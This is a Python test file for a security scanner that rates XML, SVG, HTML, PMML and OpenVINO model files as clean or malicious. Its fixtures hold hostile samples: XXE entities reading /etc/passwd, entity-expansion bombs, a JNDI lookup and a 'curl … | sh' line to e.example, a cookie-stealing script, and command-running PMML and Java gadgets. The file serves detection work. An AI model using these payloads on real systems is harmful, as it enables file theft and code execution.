"""XML, drawings, pages, PMML and OpenVINO: what a reader fetches, grows or runs, and what it shows."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assay.core.finding import Verdict
from assay.scanning.parsers.xml_document import Start, XmlError, events
from scanning.container_making import COMMAND, judge

CLEAN, SUSPICIOUS, MALICIOUS = Verdict.CLEAN, Verdict.SUSPICIOUS, Verdict.MALICIOUS
UNKNOWN = Verdict.UNKNOWN
PMML = (
    '<?xml version="1.0"?>\n{doctype}<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4">'
    "<Header/><DataDictionary/>{body}</PMML>"
)
NET = (
    '<?xml version="1.0"?>\n<net name="m" version="11"><layers>'
    '<layer id="0" name="x" type="Parameter" version="opset1"><data shape="1,4"/></layer>'
    '<layer id="1" name="w" type="Const" version="opset1">'
    '<data element_type="f32" shape="4, 4" offset="0" size="{size}"/></layer>{more}'
    "</layers><edges/></net>"
)
SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{}</svg>'


@pytest.mark.parametrize(
    ("name", "text", "family"),
    [
        ("a.pmml", PMML.format(doctype="", body="<TreeModel/>"), "pmml"),
        ("a.xml", PMML.format(doctype="", body=""), "pmml"),
        ("m.xml", NET.format(size=64, more=""), "openvino"),
        ("a.svg", SVG.format('<path d="M0 0"/><a xlink:href="https://x.example/">t</a>'), "svg"),
        ("a.xml", '<?xml version="1.0"?><!-- note --><a><b c="1">text</b></a>', "xml"),
        ("a.xml", "<annotation><object><name>cat</name></object></annotation>", "xml"),
        ("a.html", "<!DOCTYPE html><html><body><h1>Docs</h1></body></html>", "html"),
        ("vocab.txt", "<unk>\n<s>\nthe\n", "text"),
        ("tokens.vocab", "<unk>\t0\n<s>\t0\n", "text"),
    ],
)
def test_documents_are_recognised_and_clean(name: str, text: str, family: str) -> None:
    judged = judge(text.encode(), name)
    assert (judged.family, judged.verdict) == (family, CLEAN), judged


@pytest.mark.parametrize(
    ("doctype", "verdict", "rule"),
    [
        ('<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n', MALICIOUS, "external-entity"),
        (
            '<!DOCTYPE r [<!ENTITY % x SYSTEM "http://e.example/x">%x;]>',
            MALICIOUS,
            "external-entity",
        ),
        (
            '<!DOCTYPE r [<!ENTITY a "aa"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;">]>',
            MALICIOUS,
            "entity-expansion",
        ),
        (f'<!DOCTYPE r [<!ENTITY a "{"x" * 9000}">]>', MALICIOUS, "entity-expansion"),
        ('<!DOCTYPE PMML SYSTEM "file:///tmp/x.dtd">', MALICIOUS, "external-definitions"),
        ('<!DOCTYPE PMML PUBLIC "-//W" "http://www.w3.org/x.dtd">', CLEAN, ""),
        ('<!DOCTYPE PMML SYSTEM "pmml.dtd">', CLEAN, "external-definitions"),
        ('<!DOCTYPE PMML [<!ENTITY ns "http://www.w3.org/2000/svg">]>', CLEAN, ""),
    ],
)
def test_what_precedes_the_root(doctype: str, verdict: Verdict, rule: str) -> None:
    for document in (PMML.format(doctype=doctype, body=""), doctype + "<r/>"):
        judged = judge(document.encode(), "a.xml")
        assert judged.verdict is verdict, judged
        assert judged.rules == ({f"xml.{rule}"} if rule else set())


def test_an_entity_in_an_attribute_of_the_root_is_found() -> None:
    text = (
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><net a="&x;"/>'
    )
    assert "xml.external-entity" in judge(text.encode(), "model.xml").rules


def test_growing_and_deep_documents_end() -> None:
    grown = '<!DOCTYPE r [<!ENTITY a "{}">]><r>{}</r>'.format("x" * 4000, "&a;" * 30_000)
    assert judge(grown.encode(), "a.xml").verdict is UNKNOWN
    deep = "<?xml version='1.0'?>" + "<a>" * 100_000 + "</a>" * 100_000
    assert "xml.depth" in judge(deep.encode(), "a.xml").rules
    long = "<?xml version='1.0'?><r a='" + "x" * 500_000 + "'/>"
    assert judge(long.encode(), "a.xml").verdict is CLEAN


@pytest.mark.parametrize(
    ("body", "verdict"),
    [
        (
            '<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>',
            MALICIOUS,
        ),
        ('<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="part.xml"/>', SUSPICIOUS),
        ('<include href="file:///etc/passwd"/>', CLEAN),
        ('<a b="${jndi:ldap://e.example/x}"/>', MALICIOUS),
        ("<a>curl http://e.example/x | sh</a>", SUSPICIOUS),
        ('<?xml-stylesheet href="http://e.example/x.xsl" type="text/xsl"?>', SUSPICIOUS),
        ('<?xml-stylesheet href="style.css" type="text/css"?>', CLEAN),
        ("<?php system('id'); ?>", SUSPICIOUS),
    ],
)
def test_what_a_reader_acts_upon(body: str, verdict: Verdict) -> None:
    judged = judge(f'<?xml version="1.0"?><r>{body}</r>'.encode(), "a.xml")
    assert judged.verdict is verdict, judged


@pytest.mark.parametrize(
    ("text", "verdict"),
    [
        (
            '<java class="java.beans.XMLDecoder"><object class="java.lang.Runtime"/></java>',
            MALICIOUS,
        ),
        ("<java><string>text</string></java>", CLEAN),
        (
            (
                '<beans xmlns="http://www.springframework.org/schema/beans">'
                '<bean class="java.lang.ProcessBuilder"/></beans>'
            ),
            MALICIOUS,
        ),
        ("<Page><ObjectDataProvider MethodName='Start'/></Page>", MALICIOUS),
        ("<project><target><exec executable='sh'/></target></project>", SUSPICIOUS),
        ("<project><target><copy file='a'/></target></project>", CLEAN),
    ],
)
def test_xml_that_makes_objects_or_starts_commands(text: str, verdict: Verdict) -> None:
    assert judge(f'<?xml version="1.0"?>{text}'.encode(), "a.xml").verdict is verdict


def test_other_encodings() -> None:
    evil = (
        '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///e">]><r/>'
    )
    assert judge(evil.encode("utf-16"), "a.xml").verdict is MALICIOUS
    unknown = b'<?xml version="1.0" encoding="no-such"?><r/>'
    assert judge(unknown, "a.xml").verdict is UNKNOWN


@pytest.mark.parametrize(
    ("body", "verdict"),
    [
        ("<script>alert(1)</script>", SUSPICIOUS),
        ('<g onload="fetch(1)"/>', SUSPICIOUS),
        ('<a xlink:href="javascript:alert(1)">x</a>', SUSPICIOUS),
        ('<a xlink:href=" JavaScript:alert(1)">x</a>', SUSPICIOUS),
        ('<use href="data:text/html,x"/>', SUSPICIOUS),
        ('<foreignObject><iframe src="x"/></foreignObject>', SUSPICIOUS),
        ("<foreignObject><p>label</p></foreignObject>", CLEAN),
        ('<image href="https://x.example/a.png"/>', CLEAN),
        ('<image href="data:image/svg+xml;base64,AAAA"/>', CLEAN),
        ('<animate attributeName="x" values="0;1"/>', CLEAN),
    ],
)
def test_drawings_that_run_code(body: str, verdict: Verdict) -> None:
    assert judge(SVG.format(body).encode(), "a.svg").verdict is verdict


@pytest.mark.parametrize(
    ("body", "verdict"),
    [
        ("<script>plot(1)</script>", CLEAN),
        ('<script src="https://cdn.plot.ly/plotly.min.js"></script>', CLEAN),
        ('<script src="search.js"></script>', CLEAN),
        ('<script src="http://e.example/x.js"></script>', SUSPICIOUS),
        ("<script>eval(atob('YWxlcnQ'))</script>", SUSPICIOUS),
        ("<script>fetch('//e.example?c=' + document.cookie)</script>", SUSPICIOUS),
        ("<script>new ActiveXObject('x')</script>", MALICIOUS),
        ("<p>WScript is a host.</p>", CLEAN),
    ],
)
def test_pages(body: str, verdict: Verdict) -> None:
    judged = judge(f"<!doctype html><html><body>{body}</body></html>".encode(), "a.html")
    assert (judged.family, judged.verdict) == ("html", verdict), judged


def test_an_application_in_html() -> None:
    assert judge(b"<html><body>x</body></html>", "a.hta").verdict is MALICIOUS


@pytest.mark.parametrize(
    ("body", "verdict", "rule"),
    [
        ('<Apply function="java.lang.Runtime"/>', MALICIOUS, "pmml.class-function"),
        ('<Apply function="com.example.MyFunction"/>', SUSPICIOUS, "pmml.class-function"),
        (
            '<DefineFunction name="com.example.MyFunction"/><Apply function="com.example.MyFunction"/>',
            CLEAN,
            "",
        ),
        ('<Apply function="x-sqrt"/><Apply function="+"/>', CLEAN, ""),
        ('<Extension name="script" extender="javascript" value="1"/>', SUSPICIOUS, "pmml.script"),
        ('<Extension name="importance" extender="SkLearn" value="1"/>', CLEAN, ""),
        ("<Script>x</Script>", SUSPICIOUS, "pmml.script"),
        ('<Apply function="java.lang.Runtime.exec"/>', MALICIOUS, "pmml.class-function"),
        ('<Apply function="com.example.Maths.root"/>', SUSPICIOUS, "pmml.class-function"),
        ("<Script>new ProcessBuilder('id').start()</Script>", MALICIOUS, "pmml.script"),
        (
            '<TableLocator><Extension name="url" value="file:///etc/passwd"/></TableLocator>',
            MALICIOUS,
            "pmml.table-path",
        ),
        (
            "<TableLocator><Extension name='url' value='https://e.example/t.csv'/></TableLocator>",
            SUSPICIOUS,
            "pmml.table-path",
        ),
        (
            '<TableLocator><Extension name="file" value="table.csv"/></TableLocator>',
            CLEAN,
            "",
        ),
        (
            '<TableLocator/><Extension name="source" value="/home/me/table.csv"/>',
            CLEAN,
            "",
        ),
    ],
)
def test_pmml(body: str, verdict: Verdict, rule: str) -> None:
    judged = judge(PMML.format(doctype="", body=body).encode(), "a.pmml")
    assert (judged.verdict, judged.rules) == (verdict, {rule} - {""})


@pytest.mark.parametrize(
    ("size", "more", "verdict"),
    [
        ("64", "", CLEAN),
        ("65", "", MALICIOUS),
        ("-1", "", MALICIOUS),
        (str(2**60), "", MALICIOUS),
        ("64", '<layer id="2" name="e" type="EvilOp" version="extension"/>', SUSPICIOUS),
        ("64", '<layer id="2" name="e" type="BPETokenizer" version="extension"/>', CLEAN),
        ("64", '<layer id="2" name="e" type="Relu" version="opset14"/>', CLEAN),
        ("64", '<layer type="PagedAttentionExtension" version="extension"/>', CLEAN),
        ("64", '<layer type="PriorBox" version="opset8"><data offset="0.5"/></layer>', CLEAN),
        (
            "64",
            '<layer type="Const" version="opset1"><data offset="64" size="99"/></layer>',
            CLEAN,
        ),
        (
            "64",
            '<layer type="Const" version="opset1"><data offset="1099511627776" size="9"/></layer>',
            MALICIOUS,
        ),
        ("64", '<layer id="2" name="e" type="Relu" version="opset1" library="./a.so"/>', MALICIOUS),
        ("64", '<rt_info><x value="/tmp/libevil.so"/></rt_info>', MALICIOUS),
        (
            "64",
            '<layer id="2" type="Read" version="opset1"><data path="/etc/passwd"/></layer>',
            MALICIOUS,
        ),
    ],
)
def test_openvino(size: str, more: str, verdict: Verdict) -> None:
    judged = judge(NET.format(size=size, more=more).encode(), "model.xml")
    assert (judged.family, judged.verdict) == ("openvino", verdict), judged


def test_an_extension_of_pmml_that_calls_the_system_is_malicious() -> None:
    body = "<Extension name=\"onLoad\" value=\"__import__('os').system('id')\"/>"
    assert judge(PMML.format(doctype="", body=body).encode(), "a.pmml").verdict is MALICIOUS


@pytest.mark.parametrize(
    ("path", "verdict"), [("../../../etc/passwd", MALICIOUS), ("kernels/a.cl", CLEAN)]
)
def test_kernels_for_a_device_lie_below_their_list(path: str, verdict: Verdict) -> None:
    kernel = f'<Kernel entry="k"><Source filename="{path}"/></Kernel>'
    text = f'<CustomLayer name="A" type="SimpleGPU" version="1">{kernel}</CustomLayer>'
    assert judge(text.encode(), "custom_layers.xml").verdict is verdict


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE net SYSTEM "http://e.example/x.dtd">',
        '<!DOCTYPE net PUBLIC "-//X//EN" "http://e.example/x.dtd">',
    ],
)
def test_a_network_has_no_definitions_on_another_host(doctype: str) -> None:
    text = NET.format(size=64, more="").replace("<net", f"{doctype}<net", 1)
    assert judge(text.encode(), "model.xml").verdict is MALICIOUS


def test_a_pickle_that_is_named_as_xml_is_disguised_or_dangerous() -> None:
    assert judge(COMMAND, "model.xml").verdict is MALICIOUS


def test_definitions_on_another_host_block_a_model_and_no_other_document() -> None:
    doctype = '<!DOCTYPE PMML SYSTEM "http://e.example/x.dtd">'
    model = judge(PMML.format(doctype=doctype, body="").encode(), "a.pmml")
    assert model.verdict is MALICIOUS
    assert judge(f"{doctype}<r/>".encode(), "a.xml").verdict is SUSPICIOUS


def test_a_cut_document_is_never_clean_and_what_came_before_counts() -> None:
    text = PMML.format(doctype='<!DOCTYPE r [<!ENTITY x SYSTEM "file:///e">]>', body="").encode()
    for size in range(1, len(text)):
        assert judge(text[:size], "a.pmml").verdict is not CLEAN, size
    for size in range(text.index(b"]>") + 1, len(text)):
        assert judge(text[:size], "a.pmml").verdict is MALICIOUS, size


@settings(max_examples=200, deadline=None)
@given(st.data())
def test_any_change_of_a_byte_is_answered(data: st.DataObject) -> None:
    raw = bytearray(NET.format(size=64, more="").encode())
    for _ in range(data.draw(st.integers(1, 4))):
        raw[data.draw(st.integers(0, len(raw) - 1))] = data.draw(st.integers(0, 255))
    assert judge(bytes(raw), "model.xml").verdict in Verdict


@given(st.binary(max_size=200))
def test_any_bytes_are_a_document_or_an_error(raw: bytes) -> None:
    try:
        assert any(isinstance(event, Start) for event in events(raw))
    except XmlError as error:
        assert str(error)
